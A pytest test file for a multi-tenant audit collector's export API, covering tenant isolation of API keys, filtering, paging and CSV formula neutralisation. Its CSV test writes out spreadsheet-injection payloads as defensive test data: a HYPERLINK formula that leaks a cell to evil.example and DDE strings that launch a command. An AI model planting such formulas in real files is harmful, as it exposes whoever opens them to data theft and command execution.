"""The collector's export API end to end: API keys are bound to one tenant, filters and pages
work on records that really came through Envoy, and the CSV export neutralises spreadsheet
formulas while keeping every value intact.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from stack import Stack
from support import (
    CORRELATION_FIELDS, RECORD_FIELDS, assert_unique_ids, call_tool, caller, create_api_key, export, parse_csv,
    wait_for_records,
)

OTHER_TENANT = "org_other"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def acme_records(stack: Stack) -> tuple[str, list[dict[str, Any]]]:
    """Two records of one org_acme_corp user (a success and a denial), already stored."""
    alice = caller(stack, ["salesforce:read"], azp="claude-desktop-app")
    assert call_tool(stack, alice.token, "salesforce.query", {"query": "SELECT Id FROM Account"}).status == 200
    issue = {"repo": "a/b", "title": "t", "body": "b"}
    assert call_tool(stack, alice.token, "github.create_issue", issue).status == 403
    return alice.sub, wait_for_records(stack, 2, user=alice.sub)


@pytest.fixture(scope="module")
def other_key(stack: Stack) -> str:
    """An API key of another tenant, created with the CLI on the running collector's DB."""
    return create_api_key(stack, OTHER_TENANT)


def assert_refused(reply: Any, sub: str) -> None:
    assert reply.status in (401, 403, 404), (reply.status, reply.text)
    assert sub not in reply.text
    assert not (isinstance(reply.body, dict) and reply.body.get("records")), reply.text


def test_key_of_another_tenant_cannot_read_this_tenants_records(stack: Stack, acme_records, other_key: str) -> None:
    sub, _ = acme_records
    for params in ({}, {"user": sub}, {"user": sub, "format": "csv"}, {"format": "ndjson"}):
        reply = export(stack, api_key=other_key, params=params)
        assert_refused(reply, sub)
        assert reply.status == 403, reply.text


def test_this_tenants_key_cannot_read_another_tenants_path(stack: Stack, acme_records) -> None:
    sub, _ = acme_records
    for params in ({}, {"user": sub}, {"format": "csv"}):
        reply = export(stack, tenant=OTHER_TENANT, params=params)
        assert_refused(reply, sub)
        assert reply.status == 403, reply.text


def test_other_tenants_own_export_holds_none_of_this_tenants_records(stack: Stack, acme_records, other_key) -> None:
    sub, _ = acme_records
    for params in ({}, {"user": sub}):
        reply = export(stack, api_key=other_key, tenant=OTHER_TENANT, params=params)
        assert reply.status == 200, reply.text
        assert reply.body == {"records": [], "next": None}


def test_missing_or_unknown_key_is_401(stack: Stack, acme_records) -> None:
    sub, _ = acme_records
    for key in ("", "gsk_" + "A" * 43, "not-a-key"):
        reply = export(stack, api_key=key, params={"user": sub})
        assert reply.status == 401, (key, reply.status, reply.text)
        assert reply.headers.get("WWW-Authenticate") == "Bearer"
        assert_refused(reply, sub)


def test_export_filters_by_result_event_and_tool(stack: Stack, acme_records) -> None:
    sub, records = acme_records
    by_result = {r["result"]: r for r in records}
    assert set(by_result) == {"success", "denied"}

    def ids(**params: Any) -> list[str]:
        reply = export(stack, params={"user": sub, **params})
        assert reply.status == 200, reply.text
        return [r["id"] for r in reply.body["records"]]

    assert ids(result="denied") == [by_result["denied"]["id"]]
    assert ids(event="tool.call") == [by_result["success"]["id"]]
    assert ids(tool="github.create_issue") == [by_result["denied"]["id"]]
    assert ids(result="auth_failed") == []
    assert export(stack, params={"result": "ok"}).status == 400


def test_export_pages_follow_the_next_link(stack: Stack) -> None:
    alice = caller(stack, ["salesforce:read"])
    for i in range(3):
        assert call_tool(stack, alice.token, "salesforce.query", {"query": f"page {i}"}).status == 200
    everything = wait_for_records(stack, 3, user=alice.sub)

    first = export(stack, params={"user": alice.sub, "limit": 2})
    assert first.status == 200 and len(first.body["records"]) == 2 and first.body["next"]
    second = export(stack, path=first.body["next"])
    assert second.status == 200 and second.body["next"] is None
    paged = first.body["records"] + second.body["records"]
    assert paged == everything
    assert [r["input"]["query"] for r in paged] == ["page 0", "page 1", "page 2"]
    assert [r["timestamp"] for r in paged] == sorted(r["timestamp"] for r in paged)
    assert_unique_ids(paged)


def test_ndjson_export_carries_the_same_records_as_json(stack: Stack, acme_records) -> None:
    sub, records = acme_records
    reply = export(stack, params={"user": sub, "format": "ndjson"})
    assert reply.status == 200, reply.text
    assert reply.content_type.startswith("application/x-ndjson")
    assert [json.loads(line) for line in reply.text.splitlines()] == records


# ---- CSV ----------------------------------------------------------------------------------

WORD_COLUMNS = {"scopes", "scopeRequired"}
JSON_COLUMNS = {"input", "contentScan", "delegationChain", "inputSummary"}


def csv_cell(name: str, value: Any) -> str:
    """The CSV cell of a record value before neutralisation (null is an empty cell)."""
    if value is None:
        return ""
    if name in WORD_COLUMNS:
        return " ".join(value)
    if isinstance(value, str):
        return value
    return json.dumps(value, separators=(",", ":"))


def assert_csv_row_matches(row: dict[str, str], record: dict[str, Any]) -> None:
    """Each cell is the record's value, with a `'` in front exactly when it would start a formula."""
    for name in RECORD_FIELDS:
        cell, raw = row[name], csv_cell(name, record.get(name))
        expected = f"'{raw}" if raw.startswith(FORMULA_START) else raw
        if name in JSON_COLUMNS and record[name] is not None:
            assert cell == expected or json.loads(cell) == record[name], (name, cell, record[name])
            assert not cell.startswith("'"), (name, cell)
        elif name == "latencyMs":
            assert float(cell) == record[name], (name, cell, record[name])
        else:
            assert cell == expected, (name, cell, expected)


@pytest.mark.parametrize("paged", [False, True], ids=["streamed", "paged"])
def test_csv_export_neutralises_formula_cells_and_keeps_the_rest(stack: Stack, paged: bool) -> None:
    suffix = caller(stack).sub  # just a unique string
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'
    mallory = caller(stack, ["-danger:scope", "salesforce:read"], sub=f"+{suffix}", email=f"@{suffix}@evil.example",
                     azp="=cmd|' /C calc'!A0")
    args = {"query": formula}
    assert call_tool(stack, mallory.token, "salesforce.query", args).status == 200
    denied_tools = ["=2+5+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
    for tool in denied_tools:
        assert call_tool(stack, mallory.token, tool, {"x": "-1"}).status == 403
    records = wait_for_records(stack, 4, user=mallory.sub)
    assert len(records) == 4, records

    params = {"user": mallory.sub, "format": "csv", **({"limit": 10} if paged else {})}
    reply = export(stack, params=params)

    assert reply.status == 200, reply.text
    assert reply.content_type.startswith("text/csv"), reply.content_type
    assert reply.text.endswith("\r\n")
    rows = parse_csv(reply.text)
    assert set(rows[0]) == RECORD_FIELDS, list(rows[0])
    assert list(rows[0])[-len(CORRELATION_FIELDS):] == list(CORRELATION_FIELDS), "the correlation columns come last"
    assert [row["id"] for row in rows] == [r["id"] for r in records]
    for row, record in zip(rows, records, strict=True):
        assert_csv_row_matches(row, record)
        assert row["sub"] == f"'+{suffix}"
        assert row["email"] == f"'@{suffix}@evil.example"
        assert row["clientId"] == "'=cmd|' /C calc'!A0"
        assert row["scopes"] == "'-danger:scope salesforce:read"
    # Calls made within the same millisecond may reach the collector in any order (each Envoy
    # worker sends its own batches), so rows are matched by content, not position.
    [allowed] = [row for row in rows if row["result"] == "success"]
    denied = [row for row in rows if row["result"] != "success"]
    # The argument value that starts with `=` sits inside the JSON cell, which starts with `{`.
    assert json.loads(allowed["input"]) == args and allowed["input"].startswith("{")
    assert allowed["tool"] == "salesforce.query" and allowed["result"] == "success"
    assert sorted(row["tool"] for row in denied) == sorted(f"'{tool}" for tool in denied_tools)
    assert {(row["result"], row["reason"]) for row in denied} == {("denied", "unknown_tool")}
